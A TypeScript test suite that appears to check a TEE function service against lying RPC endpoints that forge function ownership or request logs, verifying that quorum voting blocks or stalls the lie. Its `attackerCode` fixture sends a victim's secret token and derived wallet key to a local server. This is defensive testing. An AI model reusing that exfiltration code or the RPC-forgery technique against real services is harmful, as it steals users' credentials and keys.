import { setTimeout as sleep } from 'node:timers/promises'
import { AbiCoder, hexlify, keccak256, toUtf8Bytes } from 'ethers'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import type { Hex } from '../../runtime/bytes.js'
import { functionInfoCalldata } from '../../runtime/chain/evm/registryCalls.js'
import type { Envelope } from '../../runtime/enclave/envelope.js'
import { type StartHttpServerReturnType, startHttpServer } from '../support/startHttpServer.js'
import { type LyingRpcProxy, type RpcRewrite, startLyingRpcProxy } from '../support/startLyingRpcProxy.js'
import { startTeefnStack, type TeefnStack } from '../support/startTeefnStack.js'

// Attack: the operator runs (or bribes) an RPC endpoint the worker reads the chain through, and makes it say that a
// victim's function runs the attacker's code, or that a request carries another payload. The worker believes only
// what `quorum` endpoints say alike: one liar among honest endpoints is outvoted, and a liar facing one honest
// endpoint at quorum 2 stalls the request (nothing signed) until it stops lying. Only a lone endpoint at
// rpcQuorum 1, which the node's configuration refuses unless it is set explicitly, lets the lie through.

const coder = AbiCoder.defaultAbiCoder()
const chainIds = { outvoted: 31337, stalled: 31338, alone: 31339 } as const
const [outvoted, stalled, alone] = [0, 1, 2] // chain indexes in the stack
/** Part of the stalled chain's liar URL, as an API key would be: it must never show in errors. */
const pathSecret = 'path-key-not-for-logs'

let stack: TeefnStack
let server: StartHttpServerReturnType
const liars: LyingRpcProxy[] = []
let honest: LyingRpcProxy

beforeAll(async () => {
  // Counts every run: the victim's code and the attacker's each fetch it (a private address the worker allows).
  server = await startHttpServer((_request, response) => response.end('seen'))
  stack = await startTeefnStack({
    chainIds: Object.values(chainIds),
    allowHosts: [`127.0.0.1:${server.port}`],
    // The liar comes first everywhere: a reader that took the first answer, or broke ties by order, would believe it.
    async rpc(chain) {
      const liar = await startLyingRpcProxy(chain.anvil.rpcUrl)
      liars.push(liar)
      switch (chain.anvil.chainId) {
        case chainIds.outvoted:
          honest = await startLyingRpcProxy(chain.anvil.rpcUrl)
          return { rpcUrls: [liar.url, chain.anvil.rpcUrl, honest.url], rpcQuorum: 2 }
        case chainIds.stalled:
          return { rpcUrls: [`${liar.url}/v1/${pathSecret}`, chain.anvil.rpcUrl], rpcQuorum: 2 }
        default:
          // The escape hatch the config allows only when written out: one endpoint, rpcQuorum 1.
          return { rpcUrls: [liar.url], rpcQuorum: 1 }
      }
    },
  })
})
afterEach(() => {
  for (const liar of liars) liar.lie(undefined)
})
afterAll(async () => {
  await stack?.close()
  await Promise.all([...liars, honest].map((proxy) => proxy?.close()))
  await server?.close()
})

const wallet = "Array.from(deriveSecret('wallet'), (b) => b.toString(16).padStart(2, '0')).join('')"
const victimCode = () => `export default async (request, secrets, context) => {
  await fetch('${server.url}/victim?chain=' + context.chainId)
  return JSON.stringify({ ran: 'victim', secrets: Object.keys(secrets), wallet: ${wallet} })
}`
// What an attacker's code does with a function's scope: sends its secrets and derived key home.
const attackerCode = () => `export default async (request, secrets, context) => {
  await fetch('${server.url}/attacker?chain=' + context.chainId + '&token=' + encodeURIComponent(secrets.token ?? '') + '&wallet=' + ${wallet})
  return 'attacker ran'
}`
const echo = 'export default (request) => "answered " + request'

/** Runs seen by the counting server: `who` ran on chain `chainId`. */
const runs = (who: 'victim' | 'attacker', chainId: number) =>
  server.requests
    .map((request) => new URL(request.url, server.url))
    .filter((url) => url.pathname === `/${who}` && url.searchParams.get('chain') === String(chainId))
const textOf = (envelope: Envelope) => Buffer.from(envelope.result.slice(2), 'hex').toString()

/** A lie about `functionInfo(functionId)`: the attacker's code, and the attacker as owner if given. Counts its lies. */
function functionInfoLie(functionId: Hex, lie: { codeHash: Hex; owner?: string }) {
  const told = { count: 0 }
  const rewrite: RpcRewrite = (call, result) => {
    const [tx] = call.params as [{ data?: string } | undefined]
    if (call.method !== 'eth_call' || tx?.data?.toLowerCase() !== functionInfoCalldata(functionId))
      return result
    const [, owner, locked] = coder.decode(['bytes32', 'address', 'bool'], result as string)
    told.count++
    return coder.encode(['bytes32', 'address', 'bool'], [lie.codeHash, lie.owner ?? owner, locked])
  }
  return { rewrite, told }
}

/** A lie about every `RequestSent` log: the same request (id, nonce, requester) with `payload` instead. */
function payloadLie(payload: string) {
  const told = { count: 0 }
  const rewrite: RpcRewrite = (call, result) => {
    if (call.method !== 'eth_getLogs' || !Array.isArray(result)) return result
    return result.map((log: { data: string }) => {
      const [nonce, deadline] = coder.decode(['uint64', 'uint64', 'bytes'], log.data)
      told.count++
      return { ...log, data: coder.encode(['uint64', 'uint64', 'bytes'], [nonce, deadline, payload]) }
    })
  }
  return { rewrite, told }
}

/** The request job of `requestId` once it has failed `attempts` times (or finished otherwise). */
async function failedAttempts(requestId: string, chain: number, attempts: number) {
  for (let i = 0; i < 400; i++) {
    const job = await stack.requests.getJob(stack.jobIdOf(requestId, chain))
    if (job && (job.attemptsMade >= attempts || (await job.isFailed()) || (await job.isCompleted())))
      return job
    await sleep(50)
  }
  throw new Error(`request ${requestId} was not attempted ${attempts} times`)
}

const submitterNonce = (chain: number) => {
  const { f } = stack.chains[chain]!
  return f.provider.getTransactionCount(f.relayer.address)
}

describe('an RPC endpoint that lies about who owns a function', () => {
  it("is outvoted at quorum 2 of 3: the victim's code runs with its secrets, the attacker's never", async () => {
    const victim = await stack.register(victimCode(), 'lying rpc outvoted', { chain: outvoted })
    await stack.putSecrets(victim.functionId, { token: 'victim-token-outvoted' }, { chain: outvoted })
    const attacker = await stack.store.putFunction(attackerCode())
    const { rewrite, told } = functionInfoLie(victim.functionId, {
      codeHash: attacker.codeHash,
      owner: stack.chains[outvoted]!.f.stranger.address,
    })
    liars[outvoted]!.lie(rewrite)

    const sent = await stack.request(victim.functionId, '0x01', { chain: outvoted })
    const envelope = await stack.envelopeOf(sent.requestId, { chain: outvoted })
    expect(told.count).toBeGreaterThan(0) // the worker did ask the liar
    expect([envelope.status, envelope.codeHash]).toEqual(['OK', victim.codeHash])
    expect(JSON.parse(textOf(envelope))).toMatchObject({ ran: 'victim', secrets: ['token'] })
    expect(runs('victim', chainIds.outvoted)).toHaveLength(1)
    expect(runs('attacker', chainIds.outvoted)).toHaveLength(0)
  })

  it('stalls the request, signing nothing, while one honest endpoint contradicts it at quorum 2; answered once it stops', async () => {
    const chain = stack.chains[stalled]!
    const victim = await stack.register(victimCode(), 'lying rpc stalled', { chain: stalled })
    await stack.putSecrets(victim.functionId, { token: 'victim-token-stalled' }, { chain: stalled })
    const attacker = await stack.store.putFunction(attackerCode())
    const { rewrite, told } = functionInfoLie(victim.functionId, {
      codeHash: attacker.codeHash,
      owner: chain.f.stranger.address,
    })
    liars[stalled]!.lie(rewrite)
    const nonceBefore = await submitterNonce(stalled)

    const sent = await stack.request(victim.functionId, '0x02', { chain: stalled })
    const job = await failedAttempts(sent.requestId, stalled, 2)
    expect(told.count).toBeGreaterThan(0)
    // Nothing signed, nothing sent, nothing run.
    expect(
      (await chain.deliveries.getJob(stack.jobIdOf(sent.requestId, stalled)))?.data.envelope,
    ).toBeUndefined()
    expect(await submitterNonce(stalled)).toBe(nonceBefore)
    expect(runs('victim', chainIds.stalled)).toHaveLength(0)
    expect(runs('attacker', chainIds.stalled)).toHaveLength(0)
    // Waiting for a retry, not given up, and saying why: each endpoint by its host alone, with what it said.
    expect(await job.isFailed()).toBe(false)
    expect(await job.isCompleted()).toBe(false)
    expect(job.failedReason).toMatch(/The RPC endpoints did not agree on request/)
    expect(job.failedReason).toContain(`${new URL(liars[stalled]!.url).host}: block`)
    expect(job.failedReason).toContain(`${new URL(chain.anvil.rpcUrl).host}: block`)
    expect(job.failedReason).not.toContain(pathSecret)

    liars[stalled]!.lie(undefined)
    const envelope = await stack.envelopeOf(sent.requestId, { chain: stalled })
    expect([envelope.status, envelope.codeHash]).toEqual(['OK', victim.codeHash])
    expect(JSON.parse(textOf(envelope))).toMatchObject({ ran: 'victim', secrets: ['token'] })
    expect(runs('victim', chainIds.stalled)).toHaveLength(1)
    expect(runs('attacker', chainIds.stalled)).toHaveLength(0)
  })

  it('owns the function when it is the only endpoint at rpcQuorum 1 (why the config refuses that by default)', async () => {
    // The documented escape hatch, shown working for the attacker: a lone endpoint is believed. It only has to
    // swap the code: the owner it leaves in place is the one whose signed secrets the worker then opens, for the
    // attacker's code, together with the function's derived key.
    const victim = await stack.register(victimCode(), 'lying rpc alone', { chain: alone })
    await stack.putSecrets(victim.functionId, { token: 'victim-token-alone' }, { chain: alone })
    const attacker = await stack.store.putFunction(attackerCode())
    liars[alone]!.lie(functionInfoLie(victim.functionId, { codeHash: attacker.codeHash }).rewrite)

    const sent = await stack.request(victim.functionId, '0x03', { chain: alone })
    const envelope = await stack.envelopeOf(sent.requestId, { chain: alone })
    // The worker signed the attacker's run as the victim's function (the consumer then refuses its codeHash).
    expect([envelope.functionId, envelope.codeHash]).toEqual([victim.functionId, attacker.codeHash])
    expect(textOf(envelope)).toBe('attacker ran')
    const [stolen] = runs('attacker', chainIds.alone)
    expect(stolen?.searchParams.get('token')).toBe('victim-token-alone')

    // Honest again, the endpoint lets the victim's code run: its derived key is the one the attacker took.
    liars[alone]!.lie(undefined)
    const next = await stack.request(victim.functionId, '0x04', { chain: alone })
    const answered = JSON.parse(textOf(await stack.envelopeOf(next.requestId, { chain: alone })))
    expect(answered.ran).toBe('victim')
    expect(stolen?.searchParams.get('wallet')).toBe(answered.wallet)
  })
})

describe('an RPC endpoint that forges the request log', () => {
  const real = hexlify(toUtf8Bytes('ETH/USD'))
  const forged = hexlify(toUtf8Bytes('BTC/USD at 1 USD'))

  it('is contradicted at quorum 2: nothing is signed until it stops, then the payload on chain is answered', async () => {
    const chain = stack.chains[stalled]!
    const { functionId } = await stack.register(echo, 'forged log stalled', { chain: stalled })
    const { rewrite, told } = payloadLie(forged)
    liars[stalled]!.lie(rewrite)
    const nonceBefore = await submitterNonce(stalled)

    const sent = await stack.request(functionId, real, { chain: stalled })
    const job = await failedAttempts(sent.requestId, stalled, 2)
    expect(told.count).toBeGreaterThan(0)
    expect(
      (await chain.deliveries.getJob(stack.jobIdOf(sent.requestId, stalled)))?.data.envelope,
    ).toBeUndefined()
    expect(await submitterNonce(stalled)).toBe(nonceBefore)
    // Retried, not given up: a liar may delay a real request, never make the worker drop it.
    expect(await job.isFailed()).toBe(false)
    expect(job.failedReason).toMatch(/The RPC endpoints did not agree on request/)

    liars[stalled]!.lie(undefined)
    const envelope = await stack.envelopeOf(sent.requestId, { chain: stalled })
    expect(envelope.payloadHash).toBe(keccak256(real))
    expect(textOf(envelope)).toBe(`answered ${real}`)
  })

  it('is refused even alone at rpcQuorum 1: the forged payload does not hash to the request id', async () => {
    const chain = stack.chains[alone]!
    const { functionId } = await stack.register(echo, 'forged log alone', { chain: alone })
    const { rewrite, told } = payloadLie(forged)
    liars[alone]!.lie(rewrite)
    const nonceBefore = await submitterNonce(alone)

    const sent = await stack.request(functionId, real, { chain: alone })
    const job = await failedAttempts(sent.requestId, alone, 1)
    expect(told.count).toBeGreaterThan(0)
    expect(await job.isFailed()).toBe(true) // final: no retry can make the forged log match
    expect(job.attemptsMade).toBe(1)
    expect(job.failedReason).toMatch(/has no request/)
    expect(
      (await chain.deliveries.getJob(stack.jobIdOf(sent.requestId, alone)))?.data.envelope,
    ).toBeUndefined()
    expect(await submitterNonce(alone)).toBe(nonceBefore)
  })
})
